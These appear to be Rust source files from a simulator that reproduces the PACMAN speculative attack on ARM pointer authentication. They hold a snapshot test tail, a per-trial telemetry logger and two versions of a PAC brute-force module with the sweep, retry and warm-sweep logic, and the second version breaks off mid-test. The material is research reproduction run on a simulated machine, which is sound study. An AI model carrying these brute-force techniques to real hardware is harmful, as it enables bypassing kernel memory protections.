        // the other config on the recycled frames.
        let mut sys = System::boot(SystemConfig::default());
        let _ = sys.alloc_target(9);
        for _ in 0..3 {
            sys.kernel.syscall(&mut sys.machine, sys.gadget.data_gadget, &[0, 0, 1]).unwrap();
        }
        sys.reboot_into(other);
        let t = sys.alloc_target(5);
        let p = sys.true_pac(t);
        sys.kernel.syscall(&mut sys.machine, sys.gadget.data_gadget, &[0, 0, 1]).unwrap();

        assert_eq!((t, p), (tf, pf), "layout and ground truth reproduce across configs");
        assert_eq!(sys.machine.cycles, fresh_cycles, "cross-config reboot is cycle-identical");
        assert_eq!(
            sys.machine.mem.phys.fresh_alloc_count(),
            0,
            "a recycled boot never touches the host allocator"
        );
    }

    #[test]
    fn ground_truth_is_stable_until_reboot() {
        let mut sys = System::boot(SystemConfig::default());
        let t = sys.alloc_target(3);
        let p1 = sys.true_pac(t);
        let p2 = sys.true_pac(t);
        assert_eq!(p1, p2);
    }

    /// Drives a system through a slice of "campaign": gadget syscalls,
    /// attack-level telemetry, user allocations.
    fn campaign_step(sys: &mut System, rounds: usize) {
        for i in 0..rounds {
            sys.kernel.syscall(&mut sys.machine, sys.gadget.data_gadget, &[0, 0, 1]).unwrap();
            sys.telemetry.incr("test.rounds");
            sys.telemetry.observe("test.cycles", sys.machine.cycles + i as u64);
        }
    }

    #[test]
    fn snapshot_restore_continues_bit_identically() {
        let mut cfg = SystemConfig::default();
        cfg.machine.seed = 0x5EED_0001;
        cfg.kernel_seed = 0xFACE;

        // Control: the same campaign run without interruption.
        let mut control = System::boot(cfg.clone());
        let mut live = System::boot(cfg);
        for sys in [&mut control, &mut live] {
            sys.telemetry.set_enabled(true);
            let _ = sys.alloc_target(5);
            let _ = sys.alloc_user_region(3);
            campaign_step(sys, 4);
        }

        // Interrupt `live` mid-campaign, shuttle it through bytes.
        let blob = live.snapshot();
        drop(live);
        let mut restored = System::restore(&blob).expect("snapshot restores");

        for sys in [&mut control, &mut restored] {
            campaign_step(sys, 4);
        }

        assert_eq!(restored.machine.cycles, control.machine.cycles, "cycle-identical");
        assert_eq!(
            restored.machine.cpu.regs, control.machine.cpu.regs,
            "architectural state identical"
        );
        assert_eq!(
            restored.telemetry_snapshot(),
            control.telemetry_snapshot(),
            "attack-level + machine telemetry identical"
        );
        assert_eq!(
            restored.alloc_user_region(1),
            control.alloc_user_region(1),
            "user VA allocator resumes where it left off"
        );
        let t = restored.alloc_target(7);
        assert_eq!(restored.true_pac(t), control.true_pac(t), "ground truth survives");
    }

    #[test]
    fn snapshot_restore_rejects_damage_with_typed_errors() {
        let sys = System::boot(SystemConfig::default());
        let blob = sys.snapshot();

        // Truncation at any prefix is an error, never a panic.
        for cut in [0, 1, 2, blob.len() / 3, blob.len() / 2, blob.len() - 1] {
            assert!(System::restore(&blob[..cut]).is_err(), "cut at {cut} must fail");
        }

        // Wrong format version.
        let mut bad = blob.clone();
        bad[0] ^= 0xFF;
        match System::restore(&bad) {
            Err(BinError::Corrupt(msg)) => assert!(msg.contains("version"), "got: {msg}"),
            other => panic!("expected version error, got {other:?}"),
        }

        // Trailing garbage.
        let mut long = blob.clone();
        long.extend_from_slice(&[0u8; 7]);
        match System::restore(&long) {
            Err(BinError::Corrupt(msg)) => assert!(msg.contains("trailing"), "got: {msg}"),
            other => panic!("expected trailing-bytes error, got {other:?}"),
        }
    }
}
