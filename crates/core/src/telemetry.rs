//! Per-trial attack telemetry: oracle trial records and their JSON form.
//!
//! The oracles in [`crate::oracle`] answer one question per
//! [`PacOracle::test_pac`] call. For evaluation (accuracy tables, the
//! Figure 8 distributions, JSONL export from the CLI) each call can be
//! recorded as a [`TrialRecord`]: which channel transmitted, what was
//! guessed, what the probe measured, how the median rule classified it,
//! and — simulator-only knowledge — whether the guess actually was the
//! true PAC.
//!
//! Recording is opt-in. A disabled [`TrialLog`] reduces every `push` to
//! one branch, and [`recorded_test_pac`] only pays for the extra
//! bookkeeping (cycle deltas, record construction) when either the log
//! or the system's metrics registry is enabled.

use pacman_telemetry::json::Value;

use crate::oracle::{OracleError, OracleVerdict, PacOracle};
use crate::system::System;

/// One recorded oracle test: a guess, its measurement and its verdict.
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct TrialRecord {
    /// Position in the log (0-based).
    pub index: u64,
    /// Transmission channel (see [`PacOracle::channel`]).
    pub channel: &'static str,
    /// The pointer whose PAC was guessed.
    pub target: u64,
    /// The guessed 16-bit PAC.
    pub guess: u16,
    /// Per-sample probe miss counts.
    pub misses: Vec<usize>,
    /// Median miss count used for classification.
    pub median_misses: usize,
    /// Channel-specific classification threshold.
    pub threshold: usize,
    /// The oracle's verdict: guess classified as the correct PAC.
    pub correct: bool,
    /// Ground truth (`guess == true PAC`), when the caller knows it.
    /// `None` in attacker-realistic runs.
    pub ground_truth: Option<bool>,
    /// Simulated cycles the whole test consumed (its latency).
    pub cycles: u64,
}

impl TrialRecord {
    /// The record as an ordered JSON object (`"record": "trial"` first,
    /// so JSONL consumers can route on it).
    pub fn to_json(&self) -> Value {
        let mut fields = vec![
            ("record".into(), Value::str("trial")),
            ("index".into(), Value::UInt(self.index)),
            ("channel".into(), Value::str(self.channel)),
            ("target".into(), Value::UInt(self.target)),
            ("guess".into(), Value::UInt(u64::from(self.guess))),
            (
                "misses".into(),
                Value::Array(self.misses.iter().map(|&m| Value::UInt(m as u64)).collect()),
            ),
            ("median_misses".into(), Value::UInt(self.median_misses as u64)),
            ("threshold".into(), Value::UInt(self.threshold as u64)),
            ("correct".into(), Value::Bool(self.correct)),
        ];
        fields.push((
            "ground_truth".into(),
            match self.ground_truth {
                Some(b) => Value::Bool(b),
                None => Value::Null,
            },
        ));
        fields.push(("cycles".into(), Value::UInt(self.cycles)));
        Value::Object(fields)
    }
}

/// An append-only log of [`TrialRecord`]s with an enabled gate.
#[derive(Clone, Debug, Default)]
pub struct TrialLog {
    enabled: bool,
    records: Vec<TrialRecord>,
}

impl TrialLog {
    /// An enabled log.
    pub fn new() -> Self {
        Self { enabled: true, records: Vec::new() }
    }

    /// A disabled log: `push` is a no-op branch.
    pub fn disabled() -> Self {
        Self::default()
    }

    /// Whether records are being kept.
    pub fn is_enabled(&self) -> bool {
        self.enabled
    }

    /// Appends a record (dropped when disabled).
    pub fn push(&mut self, record: TrialRecord) {
        if self.enabled {
            self.records.push(record);
        }
    }

    /// Records kept so far.
    pub fn records(&self) -> &[TrialRecord] {
        &self.records
    }

    /// Number of records kept.
    pub fn len(&self) -> usize {
        self.records.len()
    }

    /// Whether no records have been kept.
    pub fn is_empty(&self) -> bool {
        self.records.is_empty()
    }

    /// Takes the records, leaving the log empty (still enabled).
    pub fn take(&mut self) -> Vec<TrialRecord> {
        std::mem::take(&mut self.records)
    }
}

/// Runs [`PacOracle::test_pac`] and records the outcome: one
/// [`TrialRecord`] in `log` plus the `oracle.*` counters and latency
/// histograms in `sys.telemetry`.
///
/// `ground_truth` is the true PAC when the caller knows it (evaluation
/// runs); pass `None` for attacker-realistic runs.
///
/// # Errors
///
/// Propagates [`OracleError`] from the underlying trial.
pub fn recorded_test_pac<O: PacOracle + ?Sized>(
    oracle: &mut O,
    sys: &mut System,
    log: &mut TrialLog,
    target: u64,
    guess: u16,
    ground_truth: Option<u16>,
) -> Result<OracleVerdict, OracleError> {
    if !log.is_enabled() && !sys.telemetry.is_enabled() {
        return oracle.test_pac(sys, target, guess);
    }
    let cycles0 = sys.machine.cycles;
    let verdict = oracle.test_pac(sys, target, guess)?;
    let cycles = sys.machine.cycles - cycles0;
    let correct = verdict.is_correct();
    let truth = ground_truth.map(|t| t == guess);

    sys.telemetry.incr("oracle.trials");
    sys.telemetry.incr(if correct { "oracle.verdict.correct" } else { "oracle.verdict.incorrect" });
    if let Some(truth) = truth {
        sys.telemetry.incr(match (truth, correct) {
            (true, true) => "oracle.classified.true_positive",
            (true, false) => "oracle.classified.false_negative",
            (false, true) => "oracle.classified.false_positive",
            (false, false) => "oracle.classified.true_negative",
        });
    }
    sys.telemetry.observe("oracle.trial.cycles", cycles);
    sys.telemetry.observe("oracle.trial.median_misses", verdict.median_misses as u64);

    log.push(TrialRecord {
        index: log.len() as u64,
        channel: oracle.channel(),
        target,
        guess,
        misses: verdict.misses.clone(),
        median_misses: verdict.median_misses,
        threshold: verdict.threshold,
        correct,
        ground_truth: truth,
        cycles,
    });
    Ok(verdict)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::oracle::DataPacOracle;
    use crate::system::SystemConfig;
    use pacman_telemetry::json;

    fn quiet_system() -> System {
        let mut cfg = SystemConfig::default();
        cfg.machine.os_noise = 0.0;
        System::boot(cfg)
    }

    #[test]
    fn disabled_log_and_registry_record_nothing() {
        let mut sys = quiet_system();
        let set = sys.pick_quiet_dtlb_set();
        let target = sys.alloc_target(set);
        let true_pac = sys.true_pac(target);
        let mut oracle = DataPacOracle::new(&mut sys).unwrap();
        let mut log = TrialLog::disabled();
        let v =
            recorded_test_pac(&mut oracle, &mut sys, &mut log, target, true_pac, Some(true_pac))
                .unwrap();
        assert!(v.is_correct());
        assert!(log.is_empty());
        assert!(sys.telemetry.is_empty());
    }

    #[test]
    fn records_carry_verdict_truth_and_latency() {
        let mut sys = quiet_system();
        sys.telemetry.set_enabled(true);
        let set = sys.pick_quiet_dtlb_set();
        let target = sys.alloc_target(set);
        let true_pac = sys.true_pac(target);
        let mut oracle = DataPacOracle::new(&mut sys).unwrap();
        let mut log = TrialLog::new();
        recorded_test_pac(&mut oracle, &mut sys, &mut log, target, true_pac, Some(true_pac))
            .unwrap();
        recorded_test_pac(&mut oracle, &mut sys, &mut log, target, true_pac ^ 1, Some(true_pac))
            .unwrap();
        assert_eq!(log.len(), 2);
        let [good, bad] = log.records() else { panic!("two records") };
        assert_eq!(good.channel, "dtlb-data");
        assert!(good.correct && good.ground_truth == Some(true));
        assert!(!bad.correct && bad.ground_truth == Some(false));
        assert!(good.cycles > 0);
        assert_eq!(sys.telemetry.counter_value("oracle.trials"), 2);
        assert_eq!(sys.telemetry.counter_value("oracle.classified.true_positive"), 1);
        assert_eq!(sys.telemetry.counter_value("oracle.classified.true_negative"), 1);
    }

    #[test]
    fn trial_records_serialize_to_parseable_json() {
        let r = TrialRecord {
            index: 3,
            channel: "dtlb-data",
            target: 0xFFFF_FFF0_0000_4000,
            guess: 0xBEEF,
            misses: vec![12, 0, 11],
            median_misses: 11,
            threshold: 5,
            correct: true,
            ground_truth: None,
            cycles: 123_456,
        };
        let parsed = json::parse(&r.to_json().to_string()).expect("valid JSON");
        assert_eq!(parsed.get("record").and_then(Value::as_str), Some("trial"));
        assert_eq!(parsed.get("guess").and_then(Value::as_u64), Some(0xBEEF));
        assert_eq!(parsed.get("ground_truth"), Some(&Value::Null));
        assert_eq!(parsed.get("misses").and_then(Value::as_array).map(<[Value]>::len), Some(3));
    }
}
