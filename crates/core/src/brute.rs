//! PAC brute forcing (paper §8.2).
//!
//! With the oracle in hand, the attacker sweeps PAC candidates until one
//! classifies as correct. The paper's evaluation protocol is reproduced:
//! 5 samples per guess, median-rule classification, and three possible
//! outcomes per run — true positive (correct PAC found), false positive
//! (wrong PAC reported — intolerable, it would crash the final exploit)
//! and false negative (nothing found — tolerable, just retry).

use crate::oracle::{OracleError, PacOracle};
use crate::system::System;

/// Outcome of one brute-force run.
#[derive(Clone, Eq, PartialEq, Debug)]
pub struct BruteOutcome {
    /// The PAC the oracle reported, if any.
    pub found: Option<u16>,
    /// Number of PAC candidates tested.
    pub guesses_tested: u64,
    /// Syscalls issued (training + triggers + pads).
    pub syscalls: u64,
    /// Simulated cycles consumed.
    pub cycles: u64,
    /// Kernel crashes caused (must be zero for PACMAN).
    pub crashes: u64,
}

impl BruteOutcome {
    /// Mean simulated milliseconds per tested guess at `clock_hz`.
    pub fn ms_per_guess(&self, clock_hz: u64) -> f64 {
        if self.guesses_tested == 0 {
            return 0.0;
        }
        (self.cycles as f64 / clock_hz as f64) * 1e3 / self.guesses_tested as f64
    }

    /// Extrapolated simulated minutes to sweep the full 16-bit space at
    /// the measured per-guess cost (the paper's ~2.94-minute figure).
    pub fn minutes_for_full_space(&self, clock_hz: u64) -> f64 {
        self.ms_per_guess(clock_hz) * 65536.0 / 1000.0 / 60.0
    }
}

/// Classification of a brute-force run against ground truth (the §8.2
/// accuracy protocol).
#[derive(Copy, Clone, Eq, PartialEq, Hash, Debug)]
pub enum BruteVerdict {
    /// The correct PAC was found.
    TruePositive,
    /// A wrong PAC was reported (would crash the exploit — intolerable).
    FalsePositive,
    /// No PAC was found (tolerable: the attacker simply retries).
    FalseNegative,
}

/// Drives an oracle across a PAC candidate range.
#[derive(Debug)]
pub struct BruteForcer<O> {
    oracle: O,
}

impl<O: PacOracle> BruteForcer<O> {
    /// Wraps an oracle (configure its sample count first; §8.2 uses 5).
    pub fn new(oracle: O) -> Self {
        Self { oracle }
    }

    /// Gives back the oracle.
    pub fn into_inner(self) -> O {
        self.oracle
    }

    /// Sweeps `candidates` for the PAC of `target`, stopping at the
    /// first hit.
    ///
    /// # Errors
    ///
    /// Propagates [`OracleError`]s. A kernel panic inside a trial is an
    /// oracle failure, not part of normal operation.
    pub fn brute(
        &mut self,
        sys: &mut System,
        target: u64,
        candidates: impl IntoIterator<Item = u16>,
    ) -> Result<BruteOutcome, OracleError> {
        let syscalls0 = sys.machine.stats.syscalls;
        let cycles0 = sys.machine.cycles;
        let crashes0 = sys.kernel.crash_count();
        let mut tested = 0u64;
        let mut found = None;
        for pac in candidates {
            tested += 1;
            if self.oracle.test_pac(sys, target, pac)?.is_correct() {
                found = Some(pac);
                break;
            }
        }
        sys.telemetry.incr("brute.sweeps");
        sys.telemetry.incr_by("brute.guesses_tested", tested);
        if found.is_some() {
            sys.telemetry.incr("brute.hits");
        }
        Ok(BruteOutcome {
            found,
            guesses_tested: tested,
            syscalls: sys.machine.stats.syscalls - syscalls0,
            cycles: sys.machine.cycles - cycles0,
            crashes: sys.kernel.crash_count() - crashes0,
        })
    }

    /// Classifies a finished run against the ground-truth PAC.
    pub fn classify(outcome: &BruteOutcome, true_pac: u16) -> BruteVerdict {
        match outcome.found {
            Some(p) if p == true_pac => BruteVerdict::TruePositive,
            Some(_) => BruteVerdict::FalsePositive,
            None => BruteVerdict::FalseNegative,
        }
    }

    /// The §8.2 retry protocol: "our attack can easily tolerate false
    /// negatives, because when no PAC is found, the attacker can simply
    /// repeat the brute-force process until the correct PAC is found."
    /// Re-sweeps `candidates` up to `max_retries + 1` times, accumulating
    /// costs, until an oracle hit.
    ///
    /// # Errors
    ///
    /// Propagates [`OracleError`]s from the trials.
    pub fn brute_until_found(
        &mut self,
        sys: &mut System,
        target: u64,
        candidates: &[u16],
        max_retries: usize,
    ) -> Result<BruteOutcome, OracleError> {
        let mut total =
            BruteOutcome { found: None, guesses_tested: 0, syscalls: 0, cycles: 0, crashes: 0 };
        for _attempt in 0..=max_retries {
            let outcome = self.brute(sys, target, candidates.iter().copied())?;
            total.guesses_tested += outcome.guesses_tested;
            total.syscalls += outcome.syscalls;
            total.cycles += outcome.cycles;
            total.crashes += outcome.crashes;
            if outcome.found.is_some() {
                total.found = outcome.found;
                break;
            }
        }
        Ok(total)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::oracle::DataPacOracle;
    use crate::system::SystemConfig;

    fn quiet_system() -> System {
        let mut cfg = SystemConfig::default();
        cfg.machine.os_noise = 0.0;
        System::boot(cfg)
    }

    #[test]
    fn brute_force_finds_the_pac_in_a_window() {
        let mut sys = quiet_system();
        let set = sys.pick_quiet_dtlb_set();
        let target = sys.alloc_target(set);
        let true_pac = sys.true_pac(target);
        let oracle = DataPacOracle::new(&mut sys).unwrap();
        let mut bf = BruteForcer::new(oracle);
        // Sweep a 16-candidate window around the true PAC.
        let lo = true_pac.saturating_sub(8);
        let outcome = bf.brute(&mut sys, target, lo..=lo.saturating_add(16)).unwrap();
        assert_eq!(outcome.found, Some(true_pac));
        assert_eq!(
            BruteForcer::<DataPacOracle>::classify(&outcome, true_pac),
            BruteVerdict::TruePositive
        );
        assert_eq!(outcome.crashes, 0, "PACMAN brute force must not crash the kernel");
        assert!(outcome.syscalls > 0 && outcome.cycles > 0);
    }

    #[test]
    fn absent_pac_is_a_false_negative_not_a_crash() {
        let mut sys = quiet_system();
        let set = sys.pick_quiet_dtlb_set();
        let target = sys.alloc_target(set);
        let true_pac = sys.true_pac(target);
        let oracle = DataPacOracle::new(&mut sys).unwrap();
        let mut bf = BruteForcer::new(oracle);
        // Sweep a window that excludes the true PAC.
        let window: Vec<u16> = (0..32u16).map(|i| true_pac ^ (0x100 + i)).collect();
        let outcome = bf.brute(&mut sys, target, window).unwrap();
        assert_eq!(outcome.found, None);
        assert_eq!(
            BruteForcer::<DataPacOracle>::classify(&outcome, true_pac),
            BruteVerdict::FalseNegative
        );
        assert_eq!(outcome.guesses_tested, 32);
        assert_eq!(outcome.crashes, 0);
    }

    #[test]
    fn retry_protocol_accumulates_costs_and_finds_the_pac() {
        let mut sys = quiet_system();
        let set = sys.pick_quiet_dtlb_set();
        let target = sys.alloc_target(set);
        let true_pac = sys.true_pac(target);
        let oracle = DataPacOracle::new(&mut sys).unwrap();
        let mut bf = BruteForcer::new(oracle);
        let candidates: Vec<u16> =
            (0..8u16).map(|i| true_pac.wrapping_sub(3).wrapping_add(i)).collect();
        let outcome = bf.brute_until_found(&mut sys, target, &candidates, 3).unwrap();
        assert_eq!(outcome.found, Some(true_pac));
        assert_eq!(outcome.crashes, 0);
        assert!(outcome.guesses_tested >= 4);
    }

    #[test]
    fn retry_protocol_gives_up_after_the_budget() {
        let mut sys = quiet_system();
        let set = sys.pick_quiet_dtlb_set();
        let target = sys.alloc_target(set);
        let true_pac = sys.true_pac(target);
        let oracle = DataPacOracle::new(&mut sys).unwrap();
        let mut bf = BruteForcer::new(oracle);
        // Candidates that never include the true PAC.
        let candidates: Vec<u16> = (0..4u16).map(|i| true_pac ^ (0x1000 + i)).collect();
        let outcome = bf.brute_until_found(&mut sys, target, &candidates, 2).unwrap();
        assert_eq!(outcome.found, None);
        assert_eq!(outcome.guesses_tested, 3 * 4, "three full sweeps");
        assert_eq!(outcome.crashes, 0);
    }

    #[test]
    fn cost_accounting_extrapolates() {
        let o = BruteOutcome {
            found: None,
            guesses_tested: 100,
            syscalls: 0,
            cycles: 320_000_000,
            crashes: 0,
        };
        // 320M cycles at 3.2 GHz = 100 ms → 1 ms/guess → 65.536 s full space.
        assert!((o.ms_per_guess(3_200_000_000) - 1.0).abs() < 1e-9);
        assert!((o.minutes_for_full_space(3_200_000_000) - 65.536 / 60.0).abs() < 1e-6);
    }
}
