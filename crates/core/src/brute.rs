//! PAC brute forcing (paper §8.2).
//!
//! With the oracle in hand, the attacker sweeps PAC candidates until one
//! classifies as correct. The paper's evaluation protocol is reproduced:
//! 5 samples per guess, median-rule classification, and three possible
//! outcomes per run — true positive (correct PAC found), false positive
//! (wrong PAC reported — intolerable, it would crash the final exploit)
//! and false negative (nothing found — tolerable, just retry).

use pacman_isa::PacKey;

use crate::oracle::{OracleError, PacOracle};
use crate::system::System;

/// Outcome of one brute-force run.
#[derive(Clone, Eq, PartialEq, Debug)]
pub struct BruteOutcome {
    /// The PAC the oracle reported, if any.
    pub found: Option<u16>,
    /// Number of PAC candidates tested.
    pub guesses_tested: u64,
    /// Syscalls issued (training + triggers + pads).
    pub syscalls: u64,
    /// Simulated cycles consumed.
    pub cycles: u64,
    /// Kernel crashes caused (must be zero for PACMAN).
    pub crashes: u64,
}

impl BruteOutcome {
    /// Mean simulated milliseconds per tested guess at `clock_hz`.
    pub fn ms_per_guess(&self, clock_hz: u64) -> f64 {
        if self.guesses_tested == 0 {
            return 0.0;
        }
        (self.cycles as f64 / clock_hz as f64) * 1e3 / self.guesses_tested as f64
    }

    /// Extrapolated simulated minutes to sweep the full 16-bit space at
    /// the measured per-guess cost (the paper's ~2.94-minute figure).
    pub fn minutes_for_full_space(&self, clock_hz: u64) -> f64 {
        self.ms_per_guess(clock_hz) * 65536.0 / 1000.0 / 60.0
    }
}

/// Classification of a brute-force run against ground truth (the §8.2
/// accuracy protocol).
#[derive(Copy, Clone, Eq, PartialEq, Hash, Debug)]
pub enum BruteVerdict {
    /// The correct PAC was found.
    TruePositive,
    /// A wrong PAC was reported (would crash the exploit — intolerable).
    FalsePositive,
    /// No PAC was found (tolerable: the attacker simply retries).
    FalseNegative,
}

/// Drives an oracle across a PAC candidate range.
#[derive(Debug)]
pub struct BruteForcer<O> {
    oracle: O,
    /// `Some(iters)` enables the warm sweep: full training on the first
    /// guess of each sweep, `iters` re-training syscalls per guess after.
    warm_retrain_iters: Option<usize>,
}

/// Re-training syscalls per warm-sweep guess. The trigger's single
/// wrong-path execution decays the gadget's 2-bit counter by one step at
/// most, so even one taken syscall restores saturation; four gives slack
/// for multi-sample trials.
pub const WARM_RETRAIN_ITERS: usize = 4;

impl<O: PacOracle> BruteForcer<O> {
    /// Wraps an oracle (configure its sample count first; §8.2 uses 5).
    pub fn new(oracle: O) -> Self {
        Self { oracle, warm_retrain_iters: None }
    }

    /// Enables the warm sweep: the paper's protocol re-trains the
    /// gadget's branch from scratch for every guess, but the predictor
    /// state survives between guesses — a sweep only needs full training
    /// once, then `iters` syscalls per guess to re-saturate the counter.
    /// Classification quality is unchanged (the trigger still runs
    /// predicted-taken with `cond = 0`); per-guess simulated cost drops
    /// roughly `TRAIN_ITERS / iters`, so this mode must not feed the
    /// paper-faithful §8.2 timing claims — it exists for throughput
    /// (sweeping many candidates per host second).
    pub fn with_warm_sweep(mut self, iters: usize) -> Self {
        assert!(iters >= 1, "the trigger decays the counter; retraining cannot be skipped");
        self.warm_retrain_iters = Some(iters);
        self
    }

    /// Gives back the oracle.
    pub fn into_inner(self) -> O {
        self.oracle
    }

    /// Sweeps `candidates` for the PAC of `target`, stopping at the
    /// first hit.
    ///
    /// # Errors
    ///
    /// Propagates [`OracleError`]s. A kernel panic inside a trial is an
    /// oracle failure, not part of normal operation.
    pub fn brute(
        &mut self,
        sys: &mut System,
        target: u64,
        candidates: impl IntoIterator<Item = u16>,
    ) -> Result<BruteOutcome, OracleError> {
        // Every guess authenticates the same canonical pointer — only the
        // embedded PAC field differs — so the machine's AUT needs exactly
        // one QARMA evaluation for the whole sweep. Warm it through the
        // bitsliced path (Ia + zero modifier is what the gadget kext
        // verifies) so even the first trial's speculative AUT hits the
        // PAC memo instead of paying a scalar cipher pass mid-trial.
        Self::warm_targets(sys, &[target]);
        let syscalls0 = sys.machine.stats.syscalls;
        let cycles0 = sys.machine.cycles;
        let crashes0 = sys.kernel.crash_count();
        let cold_iters = self.oracle.train_iters();
        let mut tested = 0u64;
        let mut found = None;
        for pac in candidates {
            if let Some(warm) = self.warm_retrain_iters {
                // First guess trains cold; later guesses only re-saturate.
                self.oracle.set_train_iters(if tested == 0 { cold_iters } else { warm });
            }
            tested += 1;
            match self.oracle.test_pac(sys, target, pac) {
                Ok(v) if v.is_correct() => {
                    found = Some(pac);
                    break;
                }
                Ok(_) => {}
                Err(e) => {
                    if self.warm_retrain_iters.is_some() {
                        self.oracle.set_train_iters(cold_iters);
                    }
                    return Err(e);
                }
            }
        }
        if self.warm_retrain_iters.is_some() {
            self.oracle.set_train_iters(cold_iters);
        }
        sys.telemetry.incr("brute.sweeps");
        sys.telemetry.incr_by("brute.guesses_tested", tested);
        if found.is_some() {
            sys.telemetry.incr("brute.hits");
        }
        Ok(BruteOutcome {
            found,
            guesses_tested: tested,
            syscalls: sys.machine.stats.syscalls - syscalls0,
            cycles: sys.machine.cycles - cycles0,
            crashes: sys.kernel.crash_count() - crashes0,
        })
    }

    /// Pre-computes the expected PACs of `targets` under the kernel IA
    /// key (zero modifier — the gadget kext's verification) into the
    /// machine's PAC memo, 64 pointers per bitsliced cipher pass.
    /// Call before sweeping many distinct targets (e.g. one brute-force
    /// run per victim function) to amortise the QARMA cost ~64×.
    pub fn warm_targets(sys: &mut System, targets: &[u64]) {
        sys.machine.warm_pac_memo(PacKey::Ia, targets, 0);
    }

    /// Classifies a finished run against the ground-truth PAC.
    pub fn classify(outcome: &BruteOutcome, true_pac: u16) -> BruteVerdict {
        match outcome.found {
            Some(p) if p == true_pac => BruteVerdict::TruePositive,
            Some(_) => BruteVerdict::FalsePositive,
            None => BruteVerdict::FalseNegative,
        }
    }

    /// The §8.2 retry protocol: "our attack can easily tolerate false
    /// negatives, because when no PAC is found, the attacker can simply
    /// repeat the brute-force process until the correct PAC is found."
    /// Re-sweeps `candidates` up to `max_retries + 1` times, accumulating
    /// costs, until an oracle hit.
    ///
    /// # Errors
    ///
    /// Propagates [`OracleError`]s from the trials.
    pub fn brute_until_found(
        &mut self,
        sys: &mut System,
        target: u64,
        candidates: &[u16],
        max_retries: usize,
    ) -> Result<BruteOutcome, OracleError> {
        let mut total =
            BruteOutcome { found: None, guesses_tested: 0, syscalls: 0, cycles: 0, crashes: 0 };
        for _attempt in 0..=max_retries {
            let outcome = self.brute(sys, target, candidates.iter().copied())?;
            total.guesses_tested += outcome.guesses_tested;
            total.syscalls += outcome.syscalls;
            total.cycles += outcome.cycles;
            total.crashes += outcome.crashes;
            if outcome.found.is_some() {
                total.found = outcome.found;
                break;
            }
        }
        Ok(total)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::oracle::DataPacOracle;
    use crate::system::SystemConfig;

    fn quiet_system() -> System {
        let mut cfg = SystemConfig::default();
        cfg.machine.os_noise = 0.0;
        System::boot(cfg)
    }

    #[test]
    fn brute_force_finds_the_pac_in_a_window() {
        let mut sys = quiet_system();
        let set = sys.pick_quiet_dtlb_set();
        let target = sys.alloc_target(set);
        let true_pac = sys.true_pac(target);
        let oracle = DataPacOracle::new(&mut sys).unwrap();
        let mut bf = BruteForcer::new(oracle);
        // Sweep a 16-candidate window around the true PAC.
        let lo = true_pac.saturating_sub(8);
        let outcome = bf.brute(&mut sys, target, lo..=lo.saturating_add(16)).unwrap();
        assert_eq!(outcome.found, Some(true_pac));
        assert_eq!(
            BruteForcer::<DataPacOracle>::classify(&outcome, true_pac),
            BruteVerdict::TruePositive
        );
        assert_eq!(outcome.crashes, 0, "PACMAN brute force must not crash the kernel");
        assert!(outcome.syscalls > 0 && outcome.cycles > 0);
    }

    #[test]
    fn warm_sweep_matches_the_cold_sweep_verdict_with_fewer_syscalls() {
        let mut sys = quiet_system();
        let set = sys.pick_quiet_dtlb_set();
        let target = sys.alloc_target(set);
        let true_pac = sys.true_pac(target);
        let window: Vec<u16> = (0..24u16).map(|i| true_pac ^ (0x2000 + i)).collect();

        let oracle = DataPacOracle::new(&mut sys).unwrap();
        let mut cold = BruteForcer::new(oracle);
        let cold_out = cold.brute(&mut sys, target, window.iter().copied()).unwrap();

        let oracle = DataPacOracle::new(&mut sys).unwrap();
        let mut warm = BruteForcer::new(oracle).with_warm_sweep(WARM_RETRAIN_ITERS);
        let warm_out = warm.brute(&mut sys, target, window.iter().copied()).unwrap();

        // Same verdict on a miss window, and the warm sweep still finds
        // the true PAC when it is present.
        assert_eq!(cold_out.found, None);
        assert_eq!(warm_out.found, None);
        assert!(
            warm_out.syscalls * 4 < cold_out.syscalls,
            "warm sweep must retire far fewer training syscalls ({} vs {})",
            warm_out.syscalls,
            cold_out.syscalls
        );
        assert_eq!(warm_out.crashes, 0);

        let lo = true_pac.saturating_sub(4);
        let hit = warm.brute(&mut sys, target, lo..=lo.saturating_add(8)).unwrap();
        assert_eq!(hit.found, Some(true_pac), "warm sweep classification is unchanged");
    }

    #[test]
    fn absent_pac_is_a_false_negative_not_a_crash() {
        let mut sys = quiet_system();
        let set = sys.pick_quiet_dtlb_set();
        let target = sys.alloc_target(set);
        let true_pac = sys.true_pac(target);
        let oracle = DataPacOracle::new(&mut sys).unwrap();
        let mut bf = BruteForcer::new(oracle);
        // Sweep a window that excludes the true PAC.
        let window: Vec<u16> = (0..32u16).map(|i| true_pac ^ (0x100 + i)).collect();
        let outcome = bf.brute(&mut sys, target, window).unwrap();
        assert_eq!(outcome.found, None);
        assert_eq!(
            BruteForcer::<DataPacOracle>::classify(&outcome, true_pac),
            BruteVerdict::FalseNegative
        );
        assert_eq!(outcome.guesses_tested, 32);
        assert_eq!(outcome.crashes, 0);
    }

    #[test]
    fn retry_protocol_accumulates_costs_and_finds_the_pac() {
        let mut sys = quiet_system();
        let set = sys.pick_quiet_dtlb_set();
        let target = sys.alloc_target(set);
        let true_pac = sys.true_pac(target);
        let oracle = DataPacOracle::new(&mut sys).unwrap();
        let mut bf = BruteForcer::new(oracle);
        let candidates: Vec<u16> =
            (0..8u16).map(|i| true_pac.wrapping_sub(3).wrapping_add(i)).collect();
        let outcome = bf.brute_until_found(&mut sys, target, &candidates, 3).unwrap();
        assert_eq!(outcome.found, Some(true_pac));
        assert_eq!(outcome.crashes, 0);
        assert!(outcome.guesses_tested >= 4);
    }

    #[test]
    fn retry_protocol_gives_up_after_the_budget() {
        let mut sys = quiet_system();
        let set = sys.pick_quiet_dtlb_set();
        let target = sys.alloc_target(set);
        let true_pac = sys.true_pac(target);
        let oracle = DataPacOracle::new(&mut sys).unwrap();
        let mut bf = BruteForcer::new(oracle);
        // Candidates that never include the true PAC.
        let candidates: Vec<u16> = (0..4u16).map(|i| true_pac ^ (0x1000 + i)).collect();
        let outcome = bf.brute_until_found(&mut sys, target, &candidates, 2).unwrap();
        assert_eq!(outcome.found, None);
        assert_eq!(outcome.guesses_tested, 3 * 4, "three full sweeps");
        assert_eq!(outcome.crashes, 0);
    }

    #[test]
    fn cost_accounting_extrapolates() {
        let o = BruteOutcome {
            found: None,
            guesses_tested: 100,
            syscalls: 0,
            cycles: 320_000_000,
            crashes: 0,
        };
